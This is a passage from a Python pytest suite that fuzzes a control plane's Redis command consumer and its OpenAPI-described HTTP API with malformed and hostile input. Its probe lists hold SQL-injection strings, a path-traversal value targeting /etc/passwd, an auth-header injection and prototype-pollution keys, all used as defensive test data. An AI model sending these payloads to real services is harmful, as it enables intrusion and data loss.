        """A well-formed command reusing the id of a valid one that precedes it: no effect."""
        rng = self.rng
        original = rng.choice(self.created)
        if rng.random() < 0.5:
            command = copy.deepcopy(original.command)
            command["payload"]["model"] = "org/other-model"
            command["payload"].pop("instance_id", None)
        else:
            command = {"version": 1, "id": original.command_id, "type": "instance.terminate",
                       "payload": {"instance_id": str(instance_id_of(original.command))}}
        return Entry("duplicate", "duplicate id of a valid command", {b"command": encode(command, rng)},
                     command_id=original.command_id, after=original.command_id)


def instance_id_of(command: dict) -> uuid.UUID:
    given = command["payload"].get("instance_id")
    return uuid.UUID(given) if given else uuid.uuid5(NAMESPACE, command["id"])


def _get(obj: Any, path: tuple) -> Any:
    for key in path:
        obj = obj[key]
    return obj


def _set(obj: Any, path: tuple, value: Any) -> None:
    _get(obj, path[:-1])[path[-1]] = value


def _dotted(path: tuple) -> str:
    return ".".join(str(p) for p in path)


def generate_stream(seed: int, limit: int) -> list[Entry]:
    """Valid creates first (hostile entries borrow their ids), then the hostile entries, mixed at
    random; entries that must follow another one are then placed somewhere after it."""
    fuzzer = StreamFuzzer(seed)
    rng = fuzzer.rng
    valid = [fuzzer.valid_create(n) for n in range(VALID_CREATES - 1)]
    valid.append(fuzzer.valid_at_the_size_limit(VALID_CREATES - 1, limit))
    hostile = [fuzzer.hostile() for _ in range(HOSTILE_ENTRIES)]
    state_requests = [fuzzer.state_request(rng.choice(fuzzer.created)) for _ in range(VALID_STATE_REQUESTS)]
    order: list[Entry] = [e for e in hostile if e.after is None]
    for entry in valid:
        order.insert(rng.randint(0, len(order)), entry)
    for entry in [e for e in hostile if e.after is not None] + state_requests:
        first = next(i for i, e in enumerate(order) if e.command_id == entry.after and e.kind != "duplicate")
        order.insert(rng.randint(first + 1, len(order)), entry)
    return order


# ---------------------------------------------------------------------------------------------
# 1. The command stream
# ---------------------------------------------------------------------------------------------


class LogRecorder:
    """Stands in for the consumer module's logger: keeps what went wrong, drops the routine
    lines (10,000 "Command dead-lettered" warnings would only cost time)."""

    ROUTINE = {"Command dead-lettered", "Command applied", "Consumer group created"}

    def __init__(self) -> None:
        self.failures: list[tuple[str, dict, BaseException | None]] = []
        self.notable: list[tuple[str, dict]] = []

    def exception(self, event: str, **kw: Any) -> None:
        self.failures.append((event, kw, sys.exc_info()[1]))

    def error(self, event: str, **kw: Any) -> None:
        self.failures.append((event, kw, sys.exc_info()[1]))

    def warning(self, event: str, **kw: Any) -> None:
        if event not in self.ROUTINE:
            self.notable.append((event, kw))

    def info(self, event: str, **kw: Any) -> None:
        if event not in self.ROUTINE:
            self.notable.append((event, kw))

    debug = info

    def summary(self) -> str:
        kinds = Counter(f"{event}: {_exc_line(exc)}" for event, _, exc in self.failures)
        return "; ".join(f"{n} x {k}" for k, n in kinds.most_common())


class ConsumerFailed(AssertionError):
    """The consumer loop logged a failure while reading the generated entries."""


def _exc_line(exc: BaseException | None) -> str:
    if exc is None:
        return "(no exception)"
    cause = exc.__cause__ or exc
    return "".join(traceback.format_exception_only(type(cause), cause)).strip()[:300]


@pytest.fixture
async def sessions(database_url):
    engine = make_engine(database_url, pool_size=2)
    yield make_sessionmaker(engine)
    await engine.dispose()


async def test_ten_thousand_hostile_commands_are_dead_lettered_or_rejected_and_valid_ones_applied_once(
    settings, redis, sessions, db, monkeypatch
):
    assert settings.command_max_bytes == 65_536, "the generator's oversized entries assume 64 KiB"
    entries = generate_stream(SEED, settings.command_max_bytes)
    tag = f"[seed={SEED}; replay with CP_HOSTILE_SEED={SEED}]"
    recorder = LogRecorder()
    monkeypatch.setattr(consumer_module, "log", recorder)

    consumer = CommandConsumer(redis, sessions, Providers.from_settings(settings), settings)
    stop = asyncio.Event()
    task = asyncio.create_task(consumer.run(stop))
    started = time.monotonic()
    try:
        for chunk in range(0, len(entries), 500):
            async with redis.pipeline(transaction=False) as pipe:
                for entry in entries[chunk:chunk + 500]:
                    pipe.xadd(settings.command_stream, entry.fields)
                ids = await pipe.execute()
            for entry, entry_id in zip(entries[chunk:chunk + 500], ids, strict=True):
                entry.entry_id = entry_id.decode()
        added = time.monotonic() - started
        last_id = entries[-1].entry_id

        async def drained() -> bool:
            if task.done():
                raise AssertionError(f"{tag} the consumer loop returned: {task!r}")
            if recorder.failures:  # it survives by retrying, but the entries read with the culprit wait
                raise ConsumerFailed(f"{tag} {await failure_report(recorder, entries, settings, redis)}")
            groups = await redis.xinfo_groups(settings.command_stream)
            if not groups or groups[0]["last-delivered-id"].decode() != last_id:
                return False
            return (await redis.xpending(settings.command_stream, settings.consumer_group))["pending"] == 0

        try:
            await eventually(drained, timeout=STREAM_DRAIN_SECONDS, interval=0.2,
                             message=f"{tag} {len(entries)} entries consumed and acknowledged")
        except ConsumerFailed:
            raise
        except AssertionError as exc:
            dead = await redis.xlen(settings.dead_letter_stream)
            applied = await db.fetchval("SELECT count(*) FROM processed_commands")
            raise AssertionError(
                f"{exc}; so far {dead} dead-lettered, {applied} applied of {len(entries)};"
                f" consumer loop failures: {recorder.summary() or 'none'}") from None
        elapsed = time.monotonic() - started
        print(f"\n{tag} {len(entries)} entries XADDed in {added:.1f} s, consumed in {elapsed:.1f} s"
              f" ({len(entries) / elapsed:.0f} entries/s)")

        # Still consuming: a command sent now is applied.
        final_id = f"final-{SEED}"
        await redis.xadd(settings.command_stream, {"command": json.dumps({
            "version": 1, "id": final_id, "type": "instance.create",
            "payload": {"model": "org/model-1b", "provider": "local", "instance_type": "local-gpu"}})})
        await eventually(lambda: db.fetchval(
            "SELECT count(*) = 1 FROM instances WHERE created_by_command = $1", final_id),
            timeout=10, message=f"{tag} a command sent afterwards applied")
        assert not task.done(), f"{tag} the consumer loop stopped"
    finally:
        stop.set()
        await asyncio.wait_for(task, 15)

    problems = await stream_problems(entries, settings, redis, db)
    unwritten = [kw for event, kw in recorder.notable if event == "Dead-letter event not written"]
    if unwritten:
        problems.append(f"{len(unwritten)} dead-letters have no command.dead_lettered feed event"
                        f" (\"Dead-letter event not written\"), e.g. {unwritten[0]}")
    if recorder.failures:
        problems.insert(0, f"the consumer loop failed on input and only survived by retrying"
                           f" ({len(recorder.failures)} times): {recorder.summary()}")
    assert not problems, f"{tag} {len(problems)} problem(s):\n  " + "\n  ".join(problems[:40])


async def failure_report(recorder: LogRecorder, entries: list[Entry], settings, redis) -> str:
    """What made the consumer loop fail, and what waits because of it."""
    by_entry = {e.entry_id: e for e in entries}
    pending = [by_entry[p["message_id"].decode()] for p in await redis.xpending_range(
        settings.command_stream, settings.consumer_group, min="-", max="+", count=len(entries))]
    culprits = []
    for entry in pending:
        raw = entry.fields.get(b"command")
        if raw is None or len(raw) > settings.command_max_bytes:
            continue
        try:
            decode(raw)
        except InvalidCommand:
            pass
        except Exception as exc:  # what the consumer does not expect: the culprit
            culprits.append(f"entry {entry.entry_id} ({entry.label}, {len(raw)} bytes, starting {raw[:40]!r})"
                            f" makes schema.decode raise {type(exc).__name__}, not InvalidCommand")
    waiting = [e.command_id for e in pending if e.kind != "dead"]
    return (f"the consumer loop failed on input ({recorder.summary()}) and retries the whole batch."
            f" {len(culprits)} pending culprit(s): {'; '.join(culprits[:3]) or 'none identified'}."
            f" {len(waiting)} well-formed commands read in the same batch are pending, not applied"
            f" (e.g. {waiting[:3]}); re-read with the culprit on every retry, they reach"
            f" command_max_deliveries={settings.command_max_deliveries} and are dead-lettered"
            f" as 'delivered N times' without ever being applied.")


async def stream_problems(entries: list[Entry], settings, redis, db) -> list[str]:
    """Everything that differs from what each entry's class promises, one line per finding."""
    problems: list[str] = []
    by_entry = {e.entry_id: e for e in entries}

    dead = await redis.xrange(settings.dead_letter_stream)
    sources = Counter(fields[b"source_id"].decode() for _, fields in dead)
    for source, n in sources.items():
        if n > 1:
            problems.append(f"entry {source} ({by_entry[source].label}) dead-lettered {n} times")
    for _, fields in dead:
        source, reason = fields[b"source_id"].decode(), fields[b"reason"].decode(errors="replace")
        entry = by_entry[source]
        if entry.kind != "dead":
            problems.append(f"{entry.kind} command {entry.command_id!r} ({entry.label}, entry {source})"
                            f" was dead-lettered: {reason[:200]}")
        elif not reason.strip():
            problems.append(f"entry {source} ({entry.label}) dead-lettered without a reason")
        elif not reason.startswith(entry.reason_prefix):
            problems.append(f"entry {source} ({entry.label}) dead-lettered for {reason[:160]!r},"
                            f" expected a reason starting {entry.reason_prefix!r}")
        elif fields[b"command"] != entry.fields.get(b"command", b"")[: settings.command_max_bytes]:
            problems.append(f"entry {source} ({entry.label}): the dead-letter record does not hold its command")
    missing = [e for e in entries if e.kind == "dead" and e.entry_id not in sources]
    for label, n in Counter(e.label for e in missing).most_common():
        example = next(e.entry_id for e in missing if e.label == label)
        problems.append(f"{n} x {label!r} not dead-lettered (e.g. entry {example})")

    rows = {r["id"]: r for r in await db.fetch(
        "SELECT id, outcome, detail, stream_entry_id, instance_id FROM processed_commands")}
    expected = {e.command_id: e for e in entries if e.kind in ("accepted", "rejected")}
    for command_id, entry in expected.items():
        row = rows.get(command_id)
        if row is None:
            problems.append(f"{entry.kind} command {command_id!r} ({entry.label}) has no outcome")
        elif row["outcome"] != entry.kind:
            problems.append(f"command {command_id!r} ({entry.label}) was {row['outcome']}: {row['detail']}")
        elif entry.detail and entry.detail not in (row["detail"] or ""):
            problems.append(f"command {command_id!r} ({entry.label}) {entry.kind} with {row['detail']!r},"
                            f" expected it to mention {entry.detail!r}")
        elif row["stream_entry_id"] != entry.entry_id:
            problems.append(f"command {command_id!r} applied from entry {row['stream_entry_id']},"
                            f" not from its first copy {entry.entry_id}")
    for command_id in set(rows) - set(expected) - {f"final-{SEED}"}:
        problems.append(f"unexpected command {command_id!r} applied ({rows[command_id]['outcome']}):"
                        f" {rows[command_id]['detail']}")

    creates = {e.command_id: e for e in entries if e.kind == "accepted" and e.command["type"] == "instance.create"}
    instances = await db.fetch("SELECT id, created_by_command, model, labels, model_spec, desired_state,"
                               " desired_reason FROM instances")
    made = Counter(r["created_by_command"] for r in instances)
    for command_id, n in made.items():
        if command_id == f"final-{SEED}":
            continue
        if command_id not in creates:
            problems.append(f"instance created by {command_id!r}, which is not a valid create")
        elif n != 1:
            problems.append(f"{n} instances created by {command_id!r}")
    for command_id in set(creates) - set(made):
        problems.append(f"valid create {command_id!r} made no instance")
    for row in instances:
        entry = creates.get(row["created_by_command"])
        if entry is None:
            continue
        payload = entry.command["payload"]
        stored = (row["id"], row["model"], json.loads(row["labels"]),
                  json.loads(row["model_spec"]).get("extra_args", []))
        wanted = (instance_id_of(entry.command), payload["model"], payload.get("labels", {}),
                  payload.get("model_spec", {}).get("extra_args", []))
        if stored != wanted:
            problems.append(f"instance of {entry.command_id!r} stored {stored!r}, sent {wanted!r}")
    by_id = {r["id"]: r for r in instances}
    reasons: dict[uuid.UUID, set[str]] = {}
    for entry in entries:
        if entry.kind == "accepted" and entry.command["type"] != "instance.create":
            payload = entry.command["payload"]
            reasons.setdefault(uuid.UUID(payload["instance_id"]), set()).add(payload["reason"])
    for instance_id, sent in reasons.items():
        row = by_id.get(instance_id)
        if row is None or row["desired_state"] not in ("terminated", "drained"):
            problems.append(f"terminate/drain of {instance_id} left no desired state")
        elif row["desired_reason"] not in sent:
            problems.append(f"instance {instance_id}: desired_reason {row['desired_reason']!r} is none"
                            f" of the reasons sent {sorted(sent)!r}")

    kinds = Counter(e.kind for e in entries)
    events = dict(await db.fetch(
        "SELECT type, count(*) FROM events WHERE type LIKE 'command.%' GROUP BY type"))
    for event, wanted in (("command.dead_lettered", kinds["dead"]), ("command.rejected", kinds["rejected"]),
                          ("command.accepted", kinds["accepted"] + 1)):  # + the final command
        if events.get(event, 0) != wanted:
            problems.append(f"{events.get(event, 0)} {event} events, expected {wanted}")
    return problems


# ---------------------------------------------------------------------------------------------
# 2. The HTTP API, fuzzed from its own OpenAPI document
# ---------------------------------------------------------------------------------------------

REQUESTS_PER_OPERATION = 10
MAX_BODY = 1024 * 1024  # `request_max_body_size` of the app
HOSTILE_STRINGS = INJECTIONS + UNICODE + ["\x00", "a\x00b", "k=\x00", "x" * 5000, "\u202e" * 300, "%", "%ZZ",
                                          "..", ".", "~", "-1", "0x10",
                                          "1e309", "NaN", "[]", "{}", "\\", "'", "\"", "a/b", "a?b", "a#b", "a b"]
# Valid bodies to break in exactly one place (by schema name); the OpenAPI document alone
# cannot say what is valid (formats, cross-field rules), so these are written out.
BASE_BODIES: dict[str, dict] = {
    "CreateInstanceBody": {"model": "org/model-1b", "provider": "local", "instance_type": "local-gpu",
                           "labels": {"team": "ml"}, "model_spec": {"tensor_parallel_size": 1}},
    "PoolBody": {"name": "fuzz-new", "model": "org/model-1b", "min_size": 0, "max_size": 0,
                 "offers": [{"provider": "local", "instance_type": "local-gpu"}], "labels": {"team": "ml"},
                 "policy": {"scale_to_zero": True}},
    "PoolPatch": {"max_size": 0, "labels": {"team": "ml"}},
    "HostBody": {"name": "host-1", "address": "10.0.0.1", "username": "ubuntu", "private_key_ref": "/keys/id",
                 "host_key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFuzz", "instance_type": "a100x8",
                 "port": 22, "gpus": ["A100"], "hourly_price": 1.5, "currency": "EUR",
                 "availability": [{"days": ["mon"], "start": "08:00", "end": "18:00"}],
                 "requires_gpu_check": True},
    "JoinTokenBody": {"name": "host-1", "model": "org/model-1b", "ttl_seconds": 3600, "labels": {"team": "ml"}},
    "ReasonBody": {"reason": "maintenance"},
    "AgentCommandBody": {"kind": "drain", "reason": "maintenance"},
}
# Wrong JSON types that the API's lax conversion (numeric strings to numbers, 0/1 to booleans,
# "null" to null) cannot turn into the right one.
WRONG_VALUES = {
    "string": [1, 1.5, True, [], {}, ["x"]],
    "integer": ["abc", 1.5, True, [], {}, "1.5"],
    "number": ["abc", True, [], {}],
    "boolean": ["abc", 2, 1.5, [], {}],
    "array": ["abc", 1, True, {}],
    "object": ["abc", 1, True, [], [{}]],
}


@dataclass
class Probe:
    operation: str
    """METHOD /path/template"""
    what: str
    method: str
    url: str
    headers: dict[str, Any] = field(default_factory=dict)
    content: bytes | None = None
    invalid: bool = True
    """Certainly invalid: any 2xx/3xx answer is a finding."""
    expect: int | None = None
    """The one right answer, when there is one (401 unsigned, 405 method, 413 too big)."""
    extra_allowed: frozenset[int] = frozenset()
    not_http: bool = False
    """Not valid HTTP (a control character in a header): the server's HTTP parser refuses it
    with its own plain-text 400 before any of our code runs."""

    def describe(self) -> str:
        body = "" if self.content is None else f" body={self.content[:160]!r}"
        if self.content and len(self.content) > 160:
            body += f"... ({len(self.content)} bytes)"
        return f"{self.method} {self.url[:200]} ({self.what}){body}"


class OpenApiFuzzer:
    def __init__(self, spec: dict, seed: int, known: dict[str, str]) -> None:
        self.spec = spec
        self.rng = random.Random(seed)
        self.known = known
        """Values of path parameters that name something that exists (by parameter name)."""
        self._decks: dict[str, list[str]] = {}

    # --- schema helpers ----------------------------------------------------------------------

    def resolve(self, node: dict) -> dict:
        while "$ref" in node:
            node = self.spec["components"]["schemas"][node["$ref"].rsplit("/", 1)[1]]
        return node

    def types(self, node: dict) -> set[str]:
        """The JSON types a schema node allows (a "number" also takes integers)."""
        node = self.resolve(node)
        if "oneOf" in node or "anyOf" in node:
            return set().union(*(self.types(n) for n in node.get("oneOf", node.get("anyOf"))))
        if "type" in node:
            return {node["type"]} | ({"integer"} if node["type"] == "number" else set())
        if "enum" in node:
            return {"string"}
        return {"string", "integer", "number", "boolean", "array", "object", "null"}  # anything

    def string_rule(self, node: dict) -> dict | None:
        """The constraints on a string-typed node (they may sit beside a oneOf with null)."""
        node = self.resolve(node)
        if "string" not in self.types(node):
            return None
        rule = {k: node[k] for k in ("pattern", "maxLength", "minLength", "enum") if k in node}
        for branch in node.get("oneOf", []):
            branch = self.resolve(branch)
            rule |= {k: branch[k] for k in ("pattern", "maxLength", "minLength", "enum") if k in branch}
        return rule or None

    def hostile_string_for(self, rule: dict) -> str | None:
        """A string the rule refuses, or None when it refuses none of the catalogue."""
        candidates = HOSTILE_STRINGS[:]
        if "maxLength" in rule:
            candidates.append("a" * (rule["maxLength"] + 1))
        if rule.get("minLength", 0) > 0:
            candidates.append("")
        self.rng.shuffle(candidates)
        return next((c for c in candidates if c != "null" and not accepts(rule, c)), None)

    # --- requests ----------------------------------------------------------------------------

    def operations(self) -> list[tuple[str, str, dict]]:
        return [(path, method.upper(), op) for path, ops in self.spec["paths"].items()
                for method, op in ops.items() if method in ("get", "post", "put", "patch", "delete")]

    def probes(self) -> list[Probe]:
        out: list[Probe] = []
        for path, method, op in self.operations():
            out += self.for_operation(path, method, op)
        return out

    def for_operation(self, path: str, method: str, op: dict) -> list[Probe]:
        rng = self.rng
        name = f"{method} {path}"
        security = op.get("security", self.spec.get("security", []))
        schemes = {k for s in security for k in s}
        params = op.get("parameters", [])
        path_params = [p for p in params if p["in"] == "path"]
        query_params = [p for p in params if p["in"] == "query"]
        body = op.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema")
        body_name = next((b["$ref"].rsplit("/", 1)[1] for b in [body, *body.get("oneOf", [])]
                          if "$ref" in b), None) if body else None
        makers = []
        if path_params:
            makers.append((3, self.bad_path))
        if query_params:
            makers.append((4, self.bad_query))
        if body is not None:
            makers.append((8, self.bad_body))
        if "apiKey" in schemes:
            makers.append((1, self.bad_key))
        makers.append((1, self.wrong_method))
        if not path_params and not query_params and body is None and method == "GET":
            makers.append((2, self.noise))  # nothing to break: junk around a valid request
        probes = []
        for _ in range(REQUESTS_PER_OPERATION):
            make = rng.choices([m for _, m in makers], weights=[w for w, _ in makers])[0]
            probe = make(name, path, method, op, path_params, query_params, body, body_name)
            if ("agentSignature" in schemes or "joinToken" in schemes) and probe.expect != 405:
                # A signature or join token is checked first, and the admin key is neither; a
                # path that matches no route is answered 404 before that.
                probe.invalid = True
                if 404 in probe.extra_allowed:
                    probe.extra_allowed |= {401}
                else:
                    probe.expect = 401
            probes.append(probe)
        return probes

    def _url(self, path: str, path_params: list[dict], override: dict[str, str] | None = None,
             query: list[tuple[str, str]] | None = None) -> str:
        values = {p["name"]: self.known.get(p["name"], _uuid(self.rng)) for p in path_params}
        values |= override or {}
        url = path
        for key, value in values.items():
            url = url.replace("{" + key + "}", value)
        if query:
            url += "?" + "&".join(f"{urllib.parse.quote(k, safe='')}={urllib.parse.quote(v, safe='')}"
                                  for k, v in query)
        return url

    def _admin(self) -> dict[str, Any]:
        return {"Authorization": f"Bearer {self.known['admin_key']}"}

    def _valid_body(self, body_name: str | None) -> bytes | None:
        if body_name is None:
            return None
        return json.dumps(BASE_BODIES.get(body_name, {})).encode()

    def bad_path(self, name, path, method, op, path_params, query_params, body, body_name) -> Probe:
        rng = self.rng
        param = rng.choice(path_params)
        value = rng.choice(HOSTILE_STRINGS + ["00000000-0000-0000-0000-00000000000g", "not-a-uuid", "123",
                                              "%00", "..%2F..%2Fetc%2Fpasswd", "%2e%2e", "%C0%AE"])
        raw = value if value.startswith("%") or "%2" in value else urllib.parse.quote(value, safe="")
        if raw in ("", ".", ".."):
            raw = "%2E" * max(1, len(raw))
        schema = self.resolve(param["schema"])
        if schema.get("format") != "uuid" and value in self.known.values():
            raw = "no-such-" + raw
        content = self._valid_body(body_name)
        if method not in ("GET", "HEAD") and content is not None and rng.random() < 0.5:
            content = b"{"  # the path is the point, but never send a write that could be valid
        return Probe(name, f"path {param['name']}={value[:40]!r}", method,
                     self._url(path, path_params, {param["name"]: raw}),
                     self._admin() | {"Content-Type": "application/json"}, content,
                     extra_allowed=frozenset({404}))

    def bad_query(self, name, path, method, op, path_params, query_params, body, body_name) -> Probe:
        rng = self.rng
        refusing = [p for p in query_params if self._refused_values(p)]
        if refusing and (rng.random() < 0.7 or name == "GET /v1/events"):  # never open a live feed
            param = rng.choice(refusing)
            value, invalid = self._deal(param["name"], self._refused_values(param)), True
        else:  # hostile, but maybe valid: only a 5xx or an undocumented status is a finding then
            param = rng.choice(query_params)
            value, invalid = rng.choice(HOSTILE_STRINGS), False
        query = [(param["name"], value)]
        if rng.random() < 0.3:
            query.append((rng.choice(["__proto__", "limit[]", "x" * 300, "\u202e"]), rng.choice(HOSTILE_STRINGS)))
        return Probe(name, f"query {param['name']}={value[:40]!r}", method,
                     self._url(path, path_params, query=query), self._admin(),
                     self._valid_body(body_name) if method == "GET" else b"{", invalid=invalid)

    def _refused_values(self, param: dict) -> list[str]:
        """Values the parameter certainly refuses, by its documented schema or description."""
        schema = self.resolve(param["schema"])
        allowed = self.types(schema)
        items = None
        for branch in [schema, *schema.get("oneOf", [])]:
            branch = self.resolve(branch)
            if branch.get("type") == "array":
                items = self.resolve(branch["items"])
        candidates: list[str] = []
        if "integer" in allowed:
            candidates += ["abc", "1.5", "", "1e3x", "\u0661", "0x10", "--1", "9" * 40]
            if "minimum" in schema:
                candidates.append(str(int(schema["minimum"]) - 1))
            if "maximum" in schema:
                candidates.append(str(int(schema["maximum"]) + 1))
        if any(self.resolve(b).get("format") == "uuid" for b in [schema, *schema.get("oneOf", [])]):
            candidates += ["not-a-uuid", "'; DROP TABLE instances;--", "\u202e", "0" * 33]
        rule = self.string_rule(schema)
        if rule and "integer" not in allowed and schema.get("format") != "uuid":
            bad = self.hostile_string_for(rule)
            if bad is not None:
                candidates.append(bad)
        if items is not None and "enum" in items:
            candidates += [v for v in HOSTILE_STRINGS if v not in items["enum"]][:10]
        if param["name"] == "label":  # documented as key=value
            candidates += ["noequals", "=v", "\u202e"]
        if param["name"] in ("from", "to"):  # documented as ISO 8601
            candidates += ["yesterday", "2026-13-45", "1e9", "'; DROP TABLE instances;--", "2026-05-01T25:00"]
        if param["name"] == "cursor":  # only what a previous page returned; forged ones too
            zero = uuid.UUID(int=0)
            candidates += ["not a cursor", "\u202e", "%%%"] + [
                base64.urlsafe_b64encode(forged).decode() for forged in (
                    b"9" * 30, b"-1e400", b"\xff\xfe", b"2020-01-01|not-a-uuid",
                    f"9999-12-31T23:59:59-23:59|{zero}".encode(), f"0001-01-01T00:00:00+23:59|{zero}".encode())]
        return candidates

    def bad_body(self, name, path, method, op, path_params, query_params, body, body_name) -> Probe:
        rng = self.rng
        schema = self.resolve({"$ref": f"#/components/schemas/{body_name}"})
        base = copy.deepcopy(BASE_BODIES.get(body_name, {}))
        props = schema.get("properties", {})
        kind = self._next_body_kind()
        if kind == "empty" and "null" in self.types(body):  # a body that may be null may be left out
            kind = "malformed"
        content: bytes
        ctype = "application/json"
        expect = None
        what = kind
        if kind == "wrong type" and props:
            key = rng.choice(sorted(props))
            allowed = self.types(props[key])
            wrong = [v for t, vs in WRONG_VALUES.items() for v in vs
                     if _json_type(v) not in allowed and not (_json_type(v) == "integer" and "number" in allowed)]
            if "null" not in allowed:
                wrong.append(None)
            value = rng.choice(wrong)
            content, what = json.dumps(base | {key: value}).encode(), f"{key}={value!r}"
        elif kind == "missing required" and schema.get("required"):
            key = rng.choice(schema["required"])
            content, what = json.dumps({k: v for k, v in base.items() if k != key}).encode(), f"without {key}"
        elif kind == "bad string" and [k for k in props if self.string_rule(props[k])]:
            key = rng.choice(sorted(k for k in props if self.string_rule(props[k])))
            bad = self.hostile_string_for(self.string_rule(props[key]))
            if bad is None:
                return self.bad_body(name, path, method, op, path_params, query_params, body, body_name)
            content = json.dumps(base | {key: bad}, ensure_ascii=rng.random() < 0.5).encode()
            what = f"{key}={bad[:40]!r}"
        elif kind == "out of range" and [k for k in props if _bounds(self.resolve(props[k]))]:
            key = rng.choice(sorted(k for k in props if _bounds(self.resolve(props[k]))))
            value = rng.choice(_bounds(self.resolve(props[key])))
            content, what = json.dumps(base | {key: value}).encode(), f"{key}={value!r}"
        elif kind == "too many items" and [k for k in props if "maxItems" in props[k] and base.get(k)]:
            key = rng.choice(sorted(k for k in props if "maxItems" in props[k] and base.get(k)))
            value = base[key][:1] * (int(props[key]["maxItems"]) + 1)
            content, what = json.dumps(base | {key: value}).encode(), f"{len(value)} {key}"
        elif kind == "unknown field" or kind in ("wrong type", "missing required", "bad string", "out of range",
                                                   "too many items"):
            key = rng.choice([k for k in ("colour", "__proto__", "constructor", "Model", "model ", "id", "status",
                                          "\u202eadmin", "", "is_admin", "$where") if k not in props])
            content = json.dumps(base | {key: rng.choice([1, "x", None, {"$gt": ""}])}).encode()
            what = f"unknown field {key!r}"
        elif kind == "malformed":
            valid = json.dumps(base).encode()
            content = rng.choice([b"{", valid[:-1], valid + b"x", b"{'model': 'm'}", valid.replace(b'"', b"'"),
                                  b"{model: m}", b"/*c*/" + valid, valid[:-1] + b",}", b"\xef\xbb\xbf" + valid,
                                  b"NaN", b"{\"a\":NaN}", valid + valid])
        elif kind == "top-level":
            content = rng.choice([b"[]", b"\"x\"", b"1", b"true", json.dumps([base]).encode()]
                                 + ([] if "null" in self.types(body) else [b"null"]))
        elif kind == "empty":
            content = rng.choice([b"", b" ", b"\n"])
        elif kind == "huge":
            content = b'{"model": "' + b"m" * (MAX_BODY + rng.randint(1, 100_000)) + b'"}'
            expect = 413
        elif kind == "big string":
            key = rng.choice(["model", "name", "reason", "colour"])
            content = json.dumps(base | {key: "x" * 900_000}).encode()
        elif kind == "deep":
            depth = rng.randint(3_000, 40_000)
            nested = b"[" * depth + b"]" * depth
            content = rng.choice([nested, b'{"labels":' + nested + b"}", b'{"policy":{"a":' + nested + b"}}",
                                  b'{"colour":' + nested + b"}"])
            what = f"nested {depth} deep"
        elif kind == "content type":
            ctype = rng.choice(["application/x-www-form-urlencoded", "multipart/form-data; boundary=xyz",
                                "text/plain", "application/xml", "application/json; charset=utf-16"])
            content = {
                "application/x-www-form-urlencoded": b"model=org%2Fmodel-1b&provider=local&instance_type=local-gpu",
                "multipart/form-data; boundary=xyz":
                    b'--xyz\r\nContent-Disposition: form-data; name="model"\r\n\r\nm\r\n--xyz--\r\n',
                "text/plain": b"model: org/model-1b",
                "application/xml": b"<body><model>org/model-1b</model></body>",
                "application/json; charset=utf-16": json.dumps(base).encode("utf-16"),
            }[ctype]
            what = f"content-type {ctype}"
        else:  # utf-8
            marker = "MARKER9c"
            key = rng.choice(sorted(props) or ["colour"])
            content = json.dumps(base | {key: marker}).encode().replace(
                marker.encode(), b"a" + rng.choice(INVALID_UTF8) + b"b")
            what = f"invalid UTF-8 in {key}"
        return Probe(name, f"body: {what}", method, self._url(path, path_params),
                     self._admin() | {"Content-Type": ctype}, content, expect=expect)

    BODY_KINDS = ["wrong type", "wrong type", "missing required", "unknown field", "bad string", "bad string",
                  "out of range", "too many items", "malformed", "top-level", "huge", "big string", "deep",
                  "content type", "utf-8", "empty"]

    def _next_body_kind(self) -> str:
        return self._deal("body kinds", self.BODY_KINDS)

    def _deal(self, deck: str, cards: list[str]) -> str:
        """Cards are dealt from a shuffled deck (one per name), so that each is sent about as
        often as the others."""
        if not self._decks.get(deck):
            self._decks[deck] = self.rng.sample(cards, len(cards))
        return self._decks[deck].pop()

    def bad_key(self, name, path, method, op, path_params, query_params, body, body_name) -> Probe:
        header = self.rng.choice([None, b"Bearer", b"bearer  x", b"Basic YWRtaW46YWRtaW4=",
                                  b"Bearer cpk_' OR 1=1--", b"Bearer " + b"k" * 8000,
                                  b"Bearer \xe2\x80\xae\xe2\x80\x8b",
                                  b"Bearer " + self.known["admin_key"].encode() + b"x",
                                  b"Bearer " + self.known["admin_key"].encode()[:-1], b"Bearer \x7f",
                                  b"Token " + self.known["admin_key"].encode()])
        headers = {} if header is None else {"Authorization": header}
        not_http = header is not None and any(b < 0x20 or b == 0x7F for b in header)
        return Probe(name, f"Authorization {header[:30] if header else None!r}", method,
                     self._url(path, path_params), headers | {"Content-Type": "application/json"},
                     self._valid_body(body_name), expect=400 if not_http else 401, not_http=not_http)

    def wrong_method(self, name, path, method, op, path_params, query_params, body, body_name) -> Probe:
        documented = {m.upper() for m in self.spec["paths"][path]}
        other = self.rng.choice([m for m in ("PUT", "PATCH", "DELETE", "POST") if m not in documented] or ["PUT"])
        return Probe(name, f"method {other}", other, self._url(path, path_params), self._admin(), b"{}",
                     expect=405 if other not in documented else None)

    def noise(self, name, path, method, op, path_params, query_params, body, body_name) -> Probe:
        rng = self.rng
        query = [(rng.choice(["q", "__proto__", "\u202e", "x" * 200, "limit"]), rng.choice(HOSTILE_STRINGS))
                 for _ in range(rng.randint(1, 4))]
        accept = rng.choice(["*/*", "application/xml", "\u00e4".encode(), "text/event-stream"])
        headers = self._admin() | {"Accept": accept, "X-Forwarded-For": "' OR 1=1--"}
        return Probe(name, "unknown query parameters and headers", method,
                     self._url(path, path_params, query=query), headers, None, invalid=False)


def _json_type(value: Any) -> str:
    if value is None:
        return "null"
    if isinstance(value, bool):
        return "boolean"
    if isinstance(value, int):
        return "integer"
    if isinstance(value, float):
        return "number"
    if isinstance(value, str):
        return "string"
    return "array" if isinstance(value, list) else "object"


def _bounds(node: dict) -> list[Any]:
    """Numbers just outside a node's documented bounds."""
    out: list[Any] = []
    if "maximum" in node:
        out += [node["maximum"] + 1, 10**30]
    if "minimum" in node:
        out += [node["minimum"] - 1, -(10**30)]
    if "exclusiveMinimum" in node:
        out.append(node["exclusiveMinimum"])
    return out


async def send(client, probe: Probe) -> tuple[int, dict, bytes]:
    """The answer's status, headers and body (an event stream is not read past its status)."""
    async with client.stream(probe.method, probe.url, headers=probe.headers, content=probe.content) as response:
        if response.status_code == 200 and "event-stream" in response.headers.get("content-type", ""):
            return response.status_code, dict(response.headers), b""
        return response.status_code, dict(response.headers), await response.aread()


def answer_problems(probe: Probe, documented: set[int], status: int, headers: dict, body: bytes,
                    error_schema: Any) -> list[str]:
    problems = []
    said = f"-> {status} {body[:300]!r}"
    if status >= 500:
        return [f"server error: {probe.describe()} {said}"]
    allowed = documented | probe.extra_allowed | ({probe.expect} if probe.expect else set())
    if probe.expect is not None and status != probe.expect:
